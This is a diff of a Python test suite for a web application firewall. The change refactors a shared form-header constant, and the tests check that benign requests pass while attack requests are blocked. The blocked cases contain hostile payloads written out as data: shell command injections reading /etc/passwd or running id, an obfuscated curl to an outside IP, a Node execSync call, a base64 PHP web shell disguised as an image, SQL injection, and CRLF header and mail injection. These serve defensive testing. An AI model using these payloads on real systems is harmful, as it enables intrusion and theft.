@@ -13,6 +13,7 @@ from waf import Request, inspect
 
 UA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"
 XHR = {"User-Agent": UA, "Sec-Fetch-Mode": "cors", "Sec-Fetch-Site": "same-site", "Content-Type": "application/json"}
+FORM = {**XHR, "Content-Type": "application/x-www-form-urlencoded"}  # a page's script posting a form
 
 
 def passes(req: Request) -> bool:
@@ -51,8 +52,7 @@ def test_cr_lf_inside_json_strings_passes():
     doc = {"responseHeaders": "content-type: application/json\r\ncontent-length: 29\r\nx-server-cost: 3",
            "message": "Sign-in failed.\r\nCorrelation ID: 5a1c\r\nTimestamp: 2024-01-01"}  # fmt: skip
     assert passes(Request.make("POST", "/apm", XHR, json.dumps(doc)))
-    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded"}
-    assert passes(Request.make("POST", "/oauth", form, "error_description=Sign-in+failed.%0D%0ACorrelation+ID%3A+5a1c"))
+    assert passes(Request.make("POST", "/oauth", FORM, "error_description=Sign-in+failed.%0D%0ACorrelation+ID%3A+5a1c"))
     assert inspect(Request.make("GET", "/r?next=%0D%0ASet-Cookie:%20admin=1")).blocked
 
 
@@ -83,29 +83,26 @@ def test_inert_javascript_links_and_search_text_pass():
 
 
 def test_opaque_tokens_and_package_configs_pass():
-    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded"}
-    assert passes(Request.make("POST", "/s", form, "v_7e0e=iHrCbZnNhecBOKOJCZEpDosdvpn%24O&p=securityGroupCount%3A1%24r"))
+    assert passes(Request.make("POST", "/s", FORM, "v_7e0e=iHrCbZnNhecBOKOJCZEpDosdvpn%24O&p=securityGroupCount%3A1%24r"))
     assert passes(Request.make("GET", "/pkgs/@scope/widget-search/config.json", {"User-Agent": UA}))
     assert inspect(Request.make("GET", "/.git/config")).blocked
 
 
 def test_markdown_yaml_and_theme_text_in_forms_pass():
-    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded"}
     md = "Wrap code in backticks (`` ` ``)\r\nCode blocks go between fences:\r\n\r\n```\r\n# a heading\r\n```"
     theme = '{"type": "dark", "colors": {"activityBar.background": "#1e1e1e", "editor.foreground": "#d4d4d4"}}'
     yaml_doc = "items:\n  - name: 'Array'\n---\nnext: 'Object'\n---"
     for text in (md, theme, yaml_doc):
         from urllib.parse import quote_plus
 
-        assert passes(Request.make("POST", "/save", form, "code=" + quote_plus(text)))
+        assert passes(Request.make("POST", "/save", FORM, "code=" + quote_plus(text)))
     assert inspect(Request.make("GET", "/login?user=admin'%23")).blocked
 
 
 def test_urls_with_empty_parameters_and_opaque_tokens_pass():
-    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded"}
     url = "proxy_url%3Dhttps%3A%2F%2Fexample.com%2Fp.html%26daid%3D5%26%26hide_title_bar%3D1"
     assert passes(Request.make("GET", f"/login?from={url}", XHR))
-    assert passes(Request.make("POST", "/s", form, "v_7e0e=u4Ka+Z%24b14-lnNZOJuCW7TmthFNIKP5o%249PR+p%24xKFObZOeNaMRTmeHaHiaplrXWB+-"))
+    assert passes(Request.make("POST", "/s", FORM, "v_7e0e=u4Ka+Z%24b14-lnNZOJuCW7TmthFNIKP5o%249PR+p%24xKFObZOeNaMRTmeHaHiaplrXWB+-"))
     assert inspect(Request.make("GET", "/?q=1'%20%26%26%201%3D1--")).blocked
 
 
@@ -175,8 +172,7 @@ def test_prose_lists_and_text_tables_with_separators_pass():
     assert passes(Request.make("GET", "/search?q=" + quote(article), {"User-Agent": UA}))
     tags = json.dumps({"nav": [{"title": "", "text": "frontend;backend;mobile;languages;java;"}]})
     assert passes(Request.make("POST", "/action", XHR, tags))
-    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded"}
-    assert passes(Request.make("POST", "/talk", form, "note=" + quote("is not technical;in nature will be removed.;history;")))
+    assert passes(Request.make("POST", "/talk", FORM, "note=" + quote("is not technical;in nature will be removed.;history;")))
     assert inspect(Request.make("GET", "/search?q=" + quote("127.0.0.1; cat /etc/passwd"))).blocked
     assert inspect(Request.make("GET", "/search?q=" + quote("x & net user"))).blocked
     assert inspect(Request.make("POST", "/action", XHR, json.dumps({"text": "a;sh -c id"}))).blocked
@@ -202,13 +198,12 @@ def test_url_path_templates_in_rum_beacons_pass():
 
 
 def test_escaped_json_and_opaque_tokens_in_form_fields_pass():
-    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded"}
     theme = '{"name":"customTheme","value":"{\\n\\t\\"type\\": \\"dark\\",\\n\\t\\"colors\\": {\\n\\t\\t\\"groups\\": 1}}"}'
-    assert passes(Request.make("POST", "/", form, "e=" + quote(theme)))
+    assert passes(Request.make("POST", "/", FORM, "e=" + quote(theme)))
     token = "e3WlSA4$s6S9Yxc9Wvc4p20knoWKkO$KdVJO2esTtb2ptb5nW$peQtYFpd$BGIhICq9X -"
-    assert passes(Request.make("POST", "/challenge", form, "v_7e0e=" + quote(token)))
-    assert inspect(Request.make("POST", "/", form, "e=" + quote("w'h'o'am'i"))).blocked
-    assert inspect(Request.make("POST", "/", form, "e=" + quote("c${u}url http://198.51.100.2/x"))).blocked
+    assert passes(Request.make("POST", "/challenge", FORM, "v_7e0e=" + quote(token)))
+    assert inspect(Request.make("POST", "/", FORM, "e=" + quote("w'h'o'am'i"))).blocked
+    assert inspect(Request.make("POST", "/", FORM, "e=" + quote("c${u}url http://198.51.100.2/x"))).blocked
 
 
 def test_display_urls_and_code_with_dot_dot_pass():
@@ -273,14 +268,13 @@ def test_javascript_function_sources_in_telemetry_pass():
 
 
 def test_helper_function_sources_posted_as_form_fields_pass():
-    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded"}
     from urllib.parse import urlencode
 
     helpers = {"unique": "function(){var r=[],s={};for(var i=0;i<this.length;i++){if(!s[this[i]]){r.push(this[i]);s[this[i]]=1}}return r}",
                "clone": "function () { return this.slice(0); }"}  # fmt: skip
-    assert passes(Request.make("POST", "/fp.html?a=1", form, urlencode(helpers)))
+    assert passes(Request.make("POST", "/fp.html?a=1", FORM, urlencode(helpers)))
     attack = urlencode({"unique": "function(){return require('child_process').execSync('id')}()"})
-    assert inspect(Request.make("POST", "/fp.html?a=1", form, attack)).blocked
+    assert inspect(Request.make("POST", "/fp.html?a=1", FORM, attack)).blocked
 
 
 def test_jsx_in_code_editor_saves_passes():
@@ -352,11 +346,10 @@ def test_inline_images_and_cidr_blocks_pass():
     png = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
     replay = json.dumps({"Evts": [{"Kind": 2, "Args": [7, "img", {"src": png}]}]})
     assert passes(Request.make("POST", "/rec/bundle", {**XHR, "Content-Type": "text/plain"}, replay))
-    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded"}
     rules = json.dumps([{"IpProtocol": "tcp", "PortRange": "443/443", "SourceCidrIp": "0.0.0.0/0"}])
     from urllib.parse import quote_plus
 
-    assert passes(Request.make("POST", "/sg/permissions.json", form, "authorizePermissions=" + quote_plus(rules)))
+    assert passes(Request.make("POST", "/sg/permissions.json", FORM, "authorizePermissions=" + quote_plus(rules)))
     # the same shapes as attacks: PHP code labelled as an image, an internal address as a URL
     php = "data:image/png;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="
     assert inspect(Request.make("GET", "/view?file=" + quote_plus(php), {"User-Agent": UA})).blocked
@@ -389,8 +382,7 @@ def test_delimited_word_lists_and_markdown_tables_pass():
         assert passes(Request.make("GET", "/api/list?" + q.replace("|", "%7C"), {"User-Agent": UA})), q
     table = "| ID | Name | Type |\n|---|---|---|\n| 1 | disk | ssd |"
     assert passes(Request.make("POST", "/issues", XHR, json.dumps({"body": table})))
-    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded"}
-    assert passes(Request.make("POST", "/wiki", form, "text=" + quote("| Command | What it does |\n|---|---|\n| ls | lists |")))
+    assert passes(Request.make("POST", "/wiki", FORM, "text=" + quote("| Command | What it does |\n|---|---|\n| ls | lists |")))
     assert inspect(Request.make("GET", "/api/list?pets=" + quote("dog|cat /etc/passwd"))).blocked
     assert inspect(Request.make("GET", "/api/list?host=" + quote("127.0.0.1|who"))).blocked
     assert inspect(Request.make("POST", "/issues", XHR, json.dumps({"body": "|id"}))).blocked
@@ -401,13 +393,12 @@ def test_markdown_pipe_tables_command_lines_and_code_in_values_pass():
             "Run it with `--format cilium`; the commands `show w' and `show c' print the terms.\n"
             "```\n$ tool --dry-run -- -----BEGIN CERTIFICATE-----\n```")  # fmt: skip
     code = "if (x) {\n  supportsView && hasTag(new View(8));\n}\nconsole.log(\"### ready\", argv.indexOf(\"--\"));"
-    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded"}
     from urllib.parse import quote_plus
 
-    assert passes(Request.make("POST", "/notes", form, "body=" + quote_plus(note)))
+    assert passes(Request.make("POST", "/notes", FORM, "body=" + quote_plus(note)))
     assert passes(Request.make("POST", "/snippets", XHR, json.dumps({"code": code, "lang": "js"})))
     # the same fields carrying injections
-    assert inspect(Request.make("POST", "/notes", form, "body=" + quote_plus("x' union select password from users--"))).blocked
+    assert inspect(Request.make("POST", "/notes", FORM, "body=" + quote_plus("x' union select password from users--"))).blocked
     assert inspect(Request.make("POST", "/snippets", XHR, json.dumps({"code": "1 and sleep(5)"}))).blocked
 
 
@@ -463,10 +454,9 @@ def test_multi_line_text_mentioning_mail_headers_and_commands_passes_the_mail_ru
            "stack": "Error: boom\n    at select (app.js:1:2)\n    at list (app.js:3:4)",
            "comment": "Please see the mail below.\nSubject: order 1234\nFrom: Jane <jane@example.org>\nData attached."}  # fmt: skip
     assert passes(Request.make("POST", "/feedback", XHR, json.dumps(doc)))
-    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded"}
-    assert passes(Request.make("POST", "/contact", form, "message=" + quote(doc["comment"]) + "&name=Jane"))
+    assert passes(Request.make("POST", "/contact", FORM, "message=" + quote(doc["comment"]) + "&name=Jane"))
     # a one-line field (an address, a mailbox) holding the line of a mail protocol
-    assert not passes(Request.make("POST", "/contact", form, "email=" + quote("jane@example.org\r\nBcc: all@example.net")))
+    assert not passes(Request.make("POST", "/contact", FORM, "email=" + quote("jane@example.org\r\nBcc: all@example.net")))
     assert not passes(Request.make("POST", "/mail", XHR, json.dumps({"mailbox": "\r\nV100 CAPABILITY\r\nV101 FETCH 1"})))
 
 
